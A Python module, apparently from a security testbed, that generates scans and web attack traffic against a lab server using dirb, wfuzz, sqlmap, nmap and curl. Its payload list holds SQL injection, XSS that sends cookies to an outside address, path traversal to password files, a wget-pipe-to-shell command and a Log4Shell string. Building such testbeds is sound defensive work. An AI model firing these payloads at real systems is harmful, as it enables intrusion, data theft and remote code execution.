"""Web attacks: what lies on a server, what runs it, and whether its pages believe what they are told."""

from pathlib import Path
from urllib.parse import quote

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, address, bracketed, one, pause

LISTS = Path("/usr/share/dirb/wordlists")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0)", "Mozilla/5.00 (probe)", "python-requests/2.28", "curl/7.88")
PAYLOADS = {
    "sql": (
        "' OR '1'='1' -- ",
        "1' AND SLEEP(1) -- ",
        "' UNION SELECT name, password FROM staff -- ",
        "x'; DROP TABLE news; -- ",
        "' ORDER BY 9 -- ",
        "') OR ('a'='a",
        "1 AND 1=2 UNION SELECT 1,sqlite_version()",
        "' AND (SELECT COUNT(*) FROM sqlite_master) > 0 -- ",
    ),
    "script": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(document.cookie)>',
        "<svg/onload=confirm(1)>",
        "javascript:/*--></title></style><script>fetch('//198.51.100.9/'+document.cookie)</script>",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "'-prompt(8)-'",
    ),
    "path": (
        "../../../../etc/passwd",
        "....//....//....//etc/shadow",
        "..%252f..%252f..%252fetc%252fhosts",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "C:\\boot.ini",
    ),
    "command": (
        "; id",
        "| cat /etc/passwd",
        "$(wget http://198.51.100.9/x.sh -O- | sh)",
        "`uname -a`",
        "() { :; }; echo vulnerable",
        "${jndi:ldap://198.51.100.9/a}",
    ),
}
PLACES = ("/search?q=", "/login?next=", "/files/?name=", "/api/item?id=", "/cgi-bin/status?", "/index.php?page=")
SCRIPTS = (
    "http-title,http-headers,http-methods",
    "http-enum",
    "http-shellshock,http-csrf,http-dombased-xss",
    "http-sql-injection",
    "http-vuln-cve2017-5638,http-vuln-cve2012-1823,http-vuln-cve2011-3192",
    "ssl-enum-ciphers,ssl-cert",
)


def site(stage: Stage) -> str:
    """Return the address of the web server with its scheme."""
    return f"{one(stage, 'scheme')}://{bracketed(address(stage))}"


def sampled(stage: Stage) -> Path:
    """Write some words of a word list of dirb's to a file of the act's own."""
    words = (LISTS / one(stage, "list")).read_text(errors="replace").split()
    count = min(about(stage, "requests"), len(words))
    path = stage.folder / "words"
    path.write_text("\n".join(stage.rng.sample(words, count)) + "\n")
    return path


def search(stage: Stage) -> None:
    """Ask for pages that may be there, by a word list."""
    tool, words, base = one(stage, "tool"), sampled(stage), site(stage)
    threads, wait_s = str(one(stage, "threads")), float(one(stage, "wait"))
    if tool == "dirb":
        # It asks one after the other on one connection, with a pause in milliseconds.
        pace = ["-z", str(round(1000 * wait_s))] if wait_s else []
        stage.run("dirb", f"{base}/", str(words), "-r", "-S", "-w", *pace, limit_s=100, ok=None)
    elif tool == "wfuzz":
        pace = ["-t", threads, *(["-s", str(wait_s)] if wait_s else [])]
        stage.run("wfuzz", *pace, "-w", str(words), "--hc", "404", f"{base}/FUZZ", limit_s=100, ok=None)
    elif tool == "patator":
        pace = ["-t", threads, "--rate-limit", str(wait_s)]
        found = ["http_fuzz", f"url={base}/FILE0", f"0={words}", "-x", "ignore:code=404"]
        found += [f"resolve={stage.world.name('web')}:{address(stage)}"]
        stage.run("patator", *found, *pace, limit_s=100, ok=None)
    else:
        probes(stage, [f"/{word}" for word in words.read_text().split()])


def probes(stage: Stage, paths: list[str]) -> None:
    """Ask for each path with curl: on one connection (`threads` 1) or on several at a time."""
    base, lines = site(stage), []
    for path in paths:
        lines += [f'url = "{base}{path}"', 'output = "/dev/null"']
    (stage.folder / "probes").write_text("\n".join(lines) + "\n")
    words = ["curl", "-s", "-k", "-g", "--path-as-is", "--max-time", "90", "-A", stage.rng.choice(AGENTS)]
    threads, wait_s = int(one(stage, "threads")), float(one(stage, "wait"))
    if threads > 1:
        words += ["--parallel", "--parallel-immediate", "--parallel-max", str(threads)]
    elif wait_s:
        words += ["--rate", f"{max(1, round(60 / wait_s))}/m"]
    words += [] if one(stage, "keep_alive") else ["--http1.1", "-H", "Connection: close"]
    stage.run(*words, "-K", str(stage.folder / "probes"), limit_s=100, ok=None)


def attack_pages(stage: Stage) -> None:
    """Put payloads of several sorts where pages take words."""
    sorts = one(stage, "payloads")
    chosen = PAYLOADS[sorts] if sorts in PAYLOADS else tuple(text for sort in PAYLOADS.values() for text in sort)
    paths = []
    for _ in range(about(stage, "requests")):
        payload = stage.rng.choice(chosen).replace("1", str(stage.rng.randint(1, 99)))
        paths.append(stage.rng.choice(PLACES) + quote(payload, safe=""))
    probes(stage, paths)


def inject(stage: Stage) -> None:
    """Look for a way into the database behind the search, with sqlmap."""
    words = ["sqlmap", "-u", f"{site(stage)}/search?q={stage.rng.choice(('report', 'a', 'news', '1'))}", "--batch"]
    words += ["--level", str(one(stage, "level")), "--risk", "1", "--technique", one(stage, "technique")]
    words += ["--threads", str(one(stage, "threads")), "--time-sec", "1", "--timeout", "5", "--retries", "0"]
    words += ["--disable-coloring", "--output-dir", str(stage.folder), "--flush-session"]
    words += ["--random-agent"] if stage.rng.random() < 0.5 else []
    words += ["--keep-alive"] if one(stage, "keep_alive") else []
    words += ["--dump", "-T", "staff"] if one(stage, "dump") else []
    stage.run(*words, limit_s=60, ok=None)


def look(stage: Stage) -> None:
    """Find out what a web server runs."""
    tool = one(stage, "tool")
    if tool == "whatweb":
        words = ["whatweb", "-q", "--no-errors", "-a", str(stage.rng.choice((1, 3))), "--max-threads", "4"]
        stage.run(*words, site(stage), limit_s=50, ok=None)
    elif tool == "sslscan":
        stage.run("sslscan", "--no-colour", f"{bracketed(address(stage))}:443", limit_s=50, ok=None)
    else:
        scripts = str(one(stage, "scripts") or stage.rng.choice(SCRIPTS))
        words = ["nmap", "-n", "-Pn", "-p", "443" if "ssl" in scripts else "80", "--script", scripts]
        words += ["--script-timeout", "30s", "--host-timeout", "50s", *(["-6"] if ":" in address(stage) else [])]
        stage.run(*words, address(stage), limit_s=60, ok=None)
    pause(stage, "wait")


COMMON = {
    "target": "web",
    "family": 4,
    "scheme": "http",
    "threads": 4,  # connections at a time
    "wait": 0,  # seconds between requests
    "keep_alive": False,  # curl, sqlmap: many requests on one connection
}
KINDS = (
    Kind(
        name="page-search",
        label="web",
        play=search,
        needs={"dirb": "dirb", "wfuzz": "wfuzz", "patator": "patator", "curl": "curl"},
        services=("web",),
        lasts_s=5,
        limit_s=110,
        # tool: dirb, wfuzz, patator or curl; list: a word list of the package dirb.
        settings={**COMMON, "tool": "wfuzz", "requests": 120, "list": "common.txt"},
    ),
    Kind(
        name="web-probes",
        label="web",
        play=attack_pages,
        needs={"curl": "curl"},
        services=("web",),
        lasts_s=4,
        limit_s=110,
        # payloads: one of PAYLOADS, or "all".
        settings={**COMMON, "payloads": "all", "requests": 40, "threads": 1},
    ),
    Kind(
        name="sql-injection",
        label="web",
        play=inject,
        needs={"sqlmap": "sqlmap"},
        services=("web",),
        lasts_s=12,
        limit_s=70,
        # technique: letters of B (boolean), E (errors), U (union), S (stacked), T (time).
        settings={**COMMON, "technique": ["B", "BE", "BEU"], "level": 1, "dump": False, "threads": 1},
    ),
    Kind(
        name="web-look",
        label="web",
        play=look,
        needs={"whatweb": "whatweb", "sslscan": "sslscan", "nmap": "nmap"},
        services=("web",),
        lasts_s=6,
        limit_s=70,
        # scripts: what nmap runs, "" draws one of SCRIPTS.
        settings={**COMMON, "tool": ["whatweb", "sslscan", "nmap"], "scripts": ""},
    ),
)
